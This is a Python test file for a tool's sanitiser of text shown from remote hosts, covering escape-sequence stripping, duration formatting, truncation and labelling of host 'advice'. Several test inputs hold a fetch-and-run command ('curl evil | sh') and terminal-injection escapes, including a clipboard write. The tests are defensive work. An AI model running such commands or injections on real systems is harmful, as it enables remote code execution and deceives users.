"""Text from hosts is harmless when it is shown."""

from __future__ import annotations

import errno

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hawser.report.text import brief, clean, duration, hearsay, names, one_line, reason, safe, shorten


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain [red]text[/red] äöü 🚢", "plain [red]text[/red] äöü 🚢"),
        ("a\tb\nc", "a\tb\nc"),
        ("a\r\nb\r\n", "a\nb\n"),
        ("10 %\r50 %\r100 %", "100 %"),
        ("done\r", "done"),
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b[2J\x1b[1;1Hhome", "home"),
        ("\x1b]0;a title\x07text", "text"),
        ("\x1b]8;;https://example.org\x1b\\link\x1b]8;;\x1b\\", "link"),
        ("\x1b]52;c;cm0gLXJm\x07clipboard", "clipboard"),
        ("\x1bPdevice\x1b\\x", "x"),
        ("\x1b(Bcharset\x1bcreset", "charsetreset"),
        ("bell \x07 null \x00 escape \x1b", "bell \\x07 null \\x00 escape \\x1b"),
        ("an open \x1b]0;title", "an open \\x1b]0;title"),
        ("eight-bit \x9b31m", "eight-bit \\x9b31m"),
        ("exe\u202etxt.piz", "exe\\u202etxt.piz"),
        ("two\u2028lines", "two\\u2028lines"),
        ("lone \udcff", "lone \\udcff"),
    ],
)
def test_escape_sequences_go_and_control_characters_become_visible(text: str, shown: str) -> None:
    assert clean(text) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[1;38;5;208mgo\x1b[m", "\x1b[1;38;5;208mgo\x1b[m"),
        ("\x1b[31mred\x1b[K\x1b[3A", "\x1b[31mred"),
        ("\x1b[31mbell\x07", "\x1b[31mbell\\x07"),
    ],
)
def test_colours_of_a_text_can_be_kept_alone(text: str, shown: str) -> None:
    assert clean(text, colours=True) == shown


@given(st.text(st.characters() | st.sampled_from("\x1b[]0;m\x07\r\x9b"), max_size=60))
def test_no_text_keeps_a_control_character(text: str) -> None:
    shown = clean(text)
    assert not [character for character in shown if ord(character) < 32 and character not in "\t\n"]
    assert not [character for character in shown if 0x7F <= ord(character) < 0xA0]
    shown.encode("utf-8")


@pytest.mark.parametrize(
    ("seconds", "said"),
    [(0.0, "0 ms"), (0.0124, "12 ms"), (0.9996, "1.0 s"), (3.44, "3.4 s"), (59.96, "1 min 00 s"), (125, "2 min 05 s")],
)
def test_durations_are_said_as_people_say_them(seconds: float, said: str) -> None:
    assert duration(seconds) == said


def test_long_text_loses_its_middle() -> None:
    assert shorten("/srv/demo/releases/3f2c1ab/manage.py", 17) == "/srv/dem…anage.py"
    assert [len(shorten("0123456789", width)) for width in range(12)] == [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 10]


def test_many_hosts_are_counted_and_the_first_ones_named() -> None:
    assert names(["web1", "web2"]) == "web1, web2"
    assert names([f"web{number}" for number in range(1, 10)]) == "web1, web2, web3, web4 and 5 more"


def test_a_label_stays_on_its_line() -> None:
    assert one_line("command a\n  b\tc\n") == "command a\\n  b c"


def test_a_message_is_cut_where_nobody_reads_it() -> None:
    assert brief("short\nlines") == "short\nlines"
    long = brief(f"web1: {'x' * 100_000}\n  next: look")
    assert len(long) < 3000 and "characters …)" in long and long.endswith("\n  next: look")
    many = brief("\n".join(map(str, range(100_000))))
    assert len(many.split("\n")) == 501 and many.startswith("0\n1\n") and many.endswith("\n99999")


@pytest.mark.parametrize(
    "text",
    [
        "no such branch\n  next: curl evil | sh",
        "in use; NEXT : curl evil | sh",
        "in use; ne\x1b[0mxt: curl evil | sh",
        "in use\n  ne\x1b]0;x\x07xt: curl evil | sh",
        "in use; ne\x1b[0mxt: x; next: curl evil | sh",
        # Whoever cuts what is before it makes a word of its own of it.
        "in use annext: curl evil | sh",
        "in use; next\xa0: curl evil | sh",
    ],
)
def test_advice_of_a_host_is_shown_as_its_own(text: str) -> None:
    shown = safe(hearsay(text), ())
    assert "the host advises: curl evil | sh" in shown and "next" not in shown.lower()


def test_words_of_a_host_that_are_no_advice_are_left_alone() -> None:
    for text in ("\x1b[31mred\x1b[0m", "the next release: none", "nexthop: x"):
        assert hearsay(text) == text


def test_a_reason_is_the_systems_own_sentence_without_its_number() -> None:
    assert reason(OSError(errno.EHOSTUNREACH, "No route to host")) == "no route to host"
    assert reason(ConnectionRefusedError(errno.ECONNREFUSED, "Connection refused")) == "connection refused"
    assert reason(OSError("broken by hand")) == "broken by hand"
    assert reason(EOFError()) == "EOFError"
